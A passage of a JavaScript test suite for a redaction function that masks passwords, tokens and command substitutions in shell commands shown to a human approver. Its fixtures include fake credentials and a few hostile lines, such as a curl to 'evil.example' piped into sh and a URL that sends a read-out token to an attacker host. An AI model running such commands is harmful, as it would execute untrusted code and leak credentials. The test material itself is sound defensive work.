      ['logger "$(case $E in prod) redis-cli -a S3cret info;; *) :;; esac)"', 'logger "$(case $E in prod) redis-cli -a [redacted] info;; *) :;; esac)"'],
      ['PGPASSWORD=$(echo staircase) psql', 'PGPASSWORD=$(echo [redacted]) psql'],
      // (only `case WORD in`: the word elsewhere leaves it a substitution, opened as any other)
      ['PGPASSWORD=$(echo S3cret; case) psql', 'PGPASSWORD=$(echo [redacted]; case) psql'],
      ['export DB_PASSWORD=$(echo S3cret | tr lower case)', 'export DB_PASSWORD=$(echo [redacted] | tr [redacted])'],
      ['mysql -p$(echo S3cret case) db', 'mysql -p$(echo [redacted]) db'],
    ]);
    // Read within one another, quoted words and substitutions are read to twelve levels, each text once a line
    // (an ssh option's command line is read twice, and so was everything within it, twice again at each level).
    kept('echo "$(a "$(b "$(c "$(d "hello world")")")")"');
    expect(commandSecrets('PGPASSWORD=$(echo S3cret) psql')).toEqual(['$(echo S3cret)']);
  });

  it('in a conninfo or URL inside double quotes: the secret runs to where the substitution ends, not to a blank in it', () => {
    cases([
      ['psql "password=$(echo S3cret)"', 'psql "password=$(echo [redacted])"'],
      ['psql "host=x password=$(vault read -field=pw x) dbname=y"', 'psql "host=x password=$(vault [redacted]) dbname=y"'],
      ['curl -u "ann:$(cat /pw | rev)" https://x', 'curl -u "ann:$(cat [redacted] | rev)" https://x'],
    ]);
    // (a password inside the substitution's own command line is not run on past: the rest of that line is shown)
    cases([['echo "$(mysql -pS3cret -e "select 1")" done', 'echo "$(mysql -p[redacted] -e "select 1")" done']]);
    // Its text is its own script's, escapes and all: the shell does not unescape it as the double quotes' text
    // (unescaped, its quotes no longer paired, it was not found, and `password=` ran to a blank in it).
    cases([
      ['psql "host=h password=$(echo S3cret \\\\) dbname=d"', 'psql "host=h password=$(echo [redacted]) dbname=d"'],
      ['psql "host=h password=$(printf "%s" "S3\\"cret x") dbname=d"', 'psql "host=h password=$(printf [redacted]) dbname=d"'],
    ]);
    kept('echo "a \\"b\\" \\$x $(echo "c \\"d\\"") e"');
  });

  it('nested in parentheses (substitutions, arithmetic, subshells) three deep, or as a URL\'s password: hidden', () => {
    // Past one level of parentheses, a `$(` was a `$` and an operator: `PGPASSWORD=[redacted](echo $(echo …`.
    cases([
      ['PGPASSWORD=$(echo $(echo $(echo S3cret))) psql', 'PGPASSWORD=$([redacted]) psql'],
      ['mysql -p$(echo $((1+2)) S3cret) db', 'mysql -p$([redacted]) db'],
      ['PGPASSWORD=$(echo $( (echo S3cret) )) psql', 'PGPASSWORD=$([redacted]) psql'],
      ['echo h:1:d:u:$(echo $(echo $(echo S3cret))) > ~/.pgpass', 'echo h:1:d:u:$([redacted]) > ~/.pgpass'],
      ['echo $(a $(b $(mysql -pS3cret)))', 'echo $(a $(b $(mysql -p[redacted])))'],
      // (a URL's password ended at a blank or slash, and one made by a substitution was not found at all)
      ['git clone https://u:$(cat /run/tok)@github.com/x/y', 'git clone https://u:[redacted]@github.com/x/y'],
      ['curl "https://u:ab$(echo S3cret)cd@h/x"', 'curl "https://u:[redacted]$(echo [redacted])[redacted]@h/x"'],
      ['curl https://u:p$(x)q@r@host/', 'curl https://u:[redacted]@host/'],
      // (not past a query or fragment: the host an approver sees is the one the URL names)
      ['curl https://u:$(cat t)@evil.example?x=a@good.example', 'curl https://u:[redacted]@evil.example?x=a@good.example'],
    ]);
    kept('curl https://h/$(date +%s)/x "https://h/a:$(id -u)/b"');
  });

  it('as the value of a secret-named setting given to a program: hidden, its blanks and all', () => {
    // A word with a blank in its value was taken for a command line (`bash -lc "PGPASSWORD=x psql …"`), not a
    // setting; a blank inside a substitution is not one.
    cases([
      ['vault kv put secret/x password=$(echo S3cret)', 'vault kv put secret/x password=$(echo [redacted])'],
      ['curl -d password=$(echo S3cret) https://x', 'curl -d password=$(echo [redacted]) https://x'],
      ['psql password=$(printf %s S3cret)', 'psql password=$(printf [redacted])'],
      ['bash -lc "PGPASSWORD=$(cat /pw) psql -c \\"select 1\\""', 'bash -lc "PGPASSWORD=$(cat [redacted]) psql -c \\"select 1\\""'],
    ]);
  });

  it('giving a secret, is shown to an approver as what it runs: its commands\' names and operators, every other word hidden', () => {
    // Hidden whole, `PGPASSWORD=$(curl -s https://evil.example/x | sh) psql` showed an approver `PGPASSWORD=[redacted] psql`.
    cases([
      ['PGPASSWORD=$(curl -s https://evil.example/x | sh) psql', 'PGPASSWORD=$(curl [redacted] | sh) psql'],
      ['PGPASSWORD=$(cat /pw 2> /dev/null || vault read -field=pw x) psql', 'PGPASSWORD=$(cat [redacted] 2> [redacted] || vault [redacted]) psql'],
      // (a command after a wrapper or an assignment is hidden with them)
      ['PGPASSWORD=$(sudo -u pg cat /pw) psql', 'PGPASSWORD=$([redacted]) psql'],
      ['PGPASSWORD=$(FOO=S3cret bash -c "echo $FOO") psql', 'PGPASSWORD=$([redacted]) psql'],
      ['PGPASSWORD="$(cat /pw)" psql', 'PGPASSWORD="$(cat [redacted])" psql'],
      ['PGPASSWORD=$(< /run/pw tr -d x) psql', 'PGPASSWORD=$(< [redacted]) psql'],
      ['PGPASSWORD=$( (cat /pw; echo) | head -1 ) psql', 'PGPASSWORD=$([redacted]) psql'],
    ]);
    // In single quotes it runs nothing: it is the secret's text, hidden whole.
    cases([
      ["PGPASSWORD='$(cat /pw)' psql", "PGPASSWORD='[redacted]' psql"],
      ["curl -u 'ann:$(cat /pw)' https://x", "curl -u 'ann:[redacted]' https://x"],
    ]);
    // `[redacted]` typed in one is no reason to show the rest of it.
    cases([['x=PGPASSWORD=$(echo [redacted] S3cret)', 'x=PGPASSWORD=$(echo [redacted])']]);
  });

  it('is opened only where a shell runs it, never past its word, and hidden whole where parentheses may make data a command (found by review)', () => {
    // An argument of pcigate exec, or a single-quoted script, is text: `$(9q)` is part of the password.
    expect(redactArgv(['psql', 'host=h password=Xk$(9q)Lm'])).toEqual(['psql', 'host=h password=[redacted]']);
    expect(redactArgv(['curl', '-d', 'user=u&password=Xk$(9q)Lm x'])).toEqual(['curl', '-d', 'user=u&password=[redacted] x']);
    cases([["echo 'password=Xk$(9q)Lm x'", "echo 'password=[redacted] x'"]]);
    // A token cut at the blank in a substitution ran on to its `)` only: `S3cret` after it was shown.
    cases([
      ['curl -H "Authorization: Bearer $(cat /run/tok)S3cret" https://x', 'curl -H "Authorization: [redacted]$(cat [redacted])[redacted]" https://x'],
      ['curl -H "Authorization: Bearer $(echo S3cret # c\n)" https://x', 'curl -H "Authorization: [redacted]" https://x'],
    ]);
    // An array, an extglob, a process substitution and arithmetic: `(` made the next word a command's name.
    cases([
      ['PGPASSWORD=$(a=(S3cret); echo $a) psql', 'PGPASSWORD=$([redacted]) psql'],
      ['PGPASSWORD=$(echo @(S3cret)) psql', 'PGPASSWORD=$([redacted]) psql'],
      ['PGPASSWORD=$(jq -r .pw <(curl -s https://x) S3cret) psql', 'PGPASSWORD=$([redacted]) psql'],
      ['mysql -p$((123456)) db', 'mysql -p$([redacted]) db'],
    ]);
    // What the rough reading of one the words cannot read does not follow runs to the line's end.
    cases([
      ["PGPASSWORD=$(echo $'\\')' S3cret # c\n) psql", 'PGPASSWORD=[redacted]'],
      ['PGPASSWORD=$(echo "$(printf ")")" S3cret # x\n) psql', 'PGPASSWORD=[redacted]'],
      ['PGPASSWORD=$(echo `echo )` S3cret # c\n) psql', 'PGPASSWORD=[redacted]'],
    ]);
    // A `)` in a `${…}` inside one ended it there: `S3cret` after it was a word of its own.
    cases([['PGPASSWORD=$(echo ${x:-)} S3cret) psql', 'PGPASSWORD=$([redacted]) psql']]);
    kept('echo $(echo ${HOME} ${x:-a}) ok');
    // A name is shown only as programs are named (lower-case): another word there may be the secret.
    cases([['PGPASSWORD=$(echo x; S3cret) psql', 'PGPASSWORD=$(echo [redacted]; [redacted]) psql']]);
    // The hidden words are not each a secret of their own: a reason quoting the command has it hidden whole.
    expect(commandSecrets('PGPASSWORD=$(curl -s https://x 2>&1 | sh) psql')).toEqual(['$(curl -s https://x 2>&1 | sh)']);
  });

  it('one the words cannot read whole (a comment, a here-document or a case in it, or never closed), giving a secret: hidden to its end', () => {
    // Its `$` was a character and the rest words: `PGPASSWORD=[redacted](echo S3cret # x⏎) psql` kept the secret.
    cases([
      ['PGPASSWORD=$(echo S3cret # the password\n) psql -c "select 1"', 'PGPASSWORD=[redacted] psql -c "select 1"'],
      ['mysql -p$(echo S3cret # it\'s (here)\n) db', 'mysql -p[redacted] db'],
      // (a here-document's body or a case's patterns cannot be told from the rest: to the end of the line)
      ['mysql -p$(cat <<EOF\nS3cret\nEOF\n) db; echo done', 'mysql -p[redacted]'],
      ['PGPASSWORD=$(case $E in prod) echo S3cret;; esac) psql', 'PGPASSWORD=[redacted]'],
      // (never closed: a syntax error to the shell, recorded as sent)
      ['PGPASSWORD=$(echo S3cret \\) psql', 'PGPASSWORD=[redacted]'],
    ]);
    // A substitution read so that gives no secret is shown, and so is what follows a closed one.
    kept('echo $(ls # the files\n) done');
    cases([['PGPASSWORD=$(echo S3cret # x\n) psql; mysql -pS3cret db', 'PGPASSWORD=[redacted] psql; mysql -p[redacted] db']]);
  });
});

describe('a credential known by its form', () => {
  const gh = `ghp_${'a1B2'.repeat(9)}`;
  const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg';
  it('is hidden whatever names it, in a word, a header, a body or a script', () => {
    // (named for nothing secret, these were recorded as typed)
    cases([
      [`export STRIPE=sk_live_${'4eC39HqLyjWDarjt'}`, 'export STRIPE=[redacted]'],
      [`curl -H "X-Api: ${gh}" https://api.github.com`, 'curl -H "X-Api: [redacted]" https://api.github.com'],
      [`curl -d '{"auth":"${jwt}"}' https://x`, `curl -d '{"auth":"[redacted]"}' https://x`],
      [`bash -c 'git push https://x:${gh}@github.com/o/r'`, "bash -c 'git push https://x:[redacted]@github.com/o/r'"],
      [`GL=glpat-${'x1Y2'.repeat(5)} SL=xoxb-${'1'.repeat(12)}-Ab3 NPM=npm_${'a9Z8'.repeat(9)} ./publish`, 'GL=[redacted] SL=[redacted] NPM=[redacted] ./publish'],
      // (after an escape or a percent-encoding, in a JSON string or a URL's query; and before a dash: found by review)
      [`printf 'line\\n${gh}' && curl 'https://x/?q=%3D${gh}' && echo ${gh}-old`, "printf 'line\\n[redacted]' && curl 'https://x/?q=%3D[redacted]' && echo [redacted]-old"],
      // (a JWT unsigned, and Slack's app-level tokens)
      ['echo eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbm4ifQ. xapp-1-A0123-456-abcdef', 'echo [redacted] [redacted]'],
      [`echo sk-proj-${'A1_b'.repeat(8)} hvs.${'CAES1z'.repeat(4)} AIza${'Q'.repeat(35)}`, 'echo [redacted] [redacted] [redacted]'],
    ]);
    expect(redactArgv(['curl', '-H', `X-Api: ${gh}`, `--data=t=${jwt}`])).toEqual(['curl', '-H', 'X-Api: [redacted]', '--data=t=[redacted]']);
  });

  it('is not a word that only starts like one: too short, or part of a longer word', () => {
    kept('echo ghp_short sk_live_ npm_x glpat- eyJx.eyJy.z');
    kept('git checkout sk-feature-branch-name-that-is-long-enough-for-a-key');
    kept(`echo x${gh}`);
    // Names that start like one: no digit and capital letter after a free-form prefix, no digit after Slack's (found by review).
    kept('git checkout xoxo-gossip-girl-theme && git checkout -b sk-admin-dashboard-permissions-refactor-v2');
    kept('tar xf hvs.production-configuration-backup.tar && echo rk_test_ValidateUserRegistration /opt/pypi-mirror-cache-directory-for-builds-and-more');
  });

  it('DB_PW, plink\'s -pw: pw names a credential, not in another word', () => {
    cases([
      ['export DB_PW=S3cret MYSQL_PW=S3cret', 'export DB_PW=[redacted] MYSQL_PW=[redacted]'],
      ['plink -pw S3cret admin@host', 'plink -pw [redacted] admin@host'],
    ]);
    kept('pwgen -s 12 && cd /srv/pwa && PWR=on ./run');
    // (only at a name's end after `_`, `.` or `-`: Playwright's PW_ settings, npm scripts, mount options are none; found by review)
    kept('PW_HOST=x PW_WORKERS=4 npx playwright test && npm run pw:test && mount -o pw=rw /dev/x /mnt && export pw_rotation_days=30');
  });
});

describe('a program whose name the shell makes', () => {
  it('is each program its name\'s words may name: their password options are hidden', () => {
    // `$MYSQL -pS3cret` was recorded as typed: `$MYSQL` named no program.
    cases([
      ['$MYSQL -pS3cret -e "select 1"', '$MYSQL -p[redacted] -e "select 1"'],
      ['"${MYSQL_BIN:-/usr/bin/mysql}" -u root -pS3cret db', '"${MYSQL_BIN:-/usr/bin/mysql}" -u root -p[redacted] db'],
      ['$(which mysql) -pS3cret db', '$(which mysql) -p[redacted] db'],
      ['`command -v redis-cli` -a S3cret ping', '`command -v redis-cli` -a [redacted] ping'],
      ['$REDIS_CLI -a S3cret ping', '$REDIS_CLI -a [redacted] ping'],
      ['sudo $SSHPASS_CMD -p S3cret ssh h', 'sudo $SSHPASS_CMD -p [redacted] ssh h'],
    ]);
    // Each program it may be (psql first read -p as its port, and mysql's was not tried; found by review).
    cases([['$(command -v psql || command -v mysql) -pS3cret db', '$(command -v psql || command -v mysql) -p[redacted] db']]);
    kept('$(which psql) -p 5432 -h db');
    // A name that says nothing of its program is not read as one (its options may mean anything).
    kept('$CC -pthread -o x x.c');
    kept('$(git rev-parse --show-toplevel)/scripts/deploy -p 22 -a prod');
  });

  it('may be a wrapper: a program with password options among its next words is read with the words after it', () => {
    // `$SUDO mysql -pS3cret` was recorded as typed: `$SUDO` names no program, and mysql was no command's name.
    cases([
      ['$SUDO mysql -pS3cret db', '$SUDO mysql -p[redacted] db'],
      ['${SUDO:-sudo} -u pg mysql -uroot -pS3cret', '${SUDO:-sudo} -u pg mysql -uroot -p[redacted]'],
      ['$DOCKER exec -it db mysql -pS3cret', '$DOCKER exec -it db mysql -p[redacted]'],
      ['$RUN sshpass -p S3cret ssh h', '$RUN sshpass -p [redacted] ssh h'],
    ]);
    kept('$EDITOR mysql.conf');
    kept('$PAGER psql -p 5432 -h db');
    kept('$CMD -pS3cret'); // (names nothing: documented)
  });
});
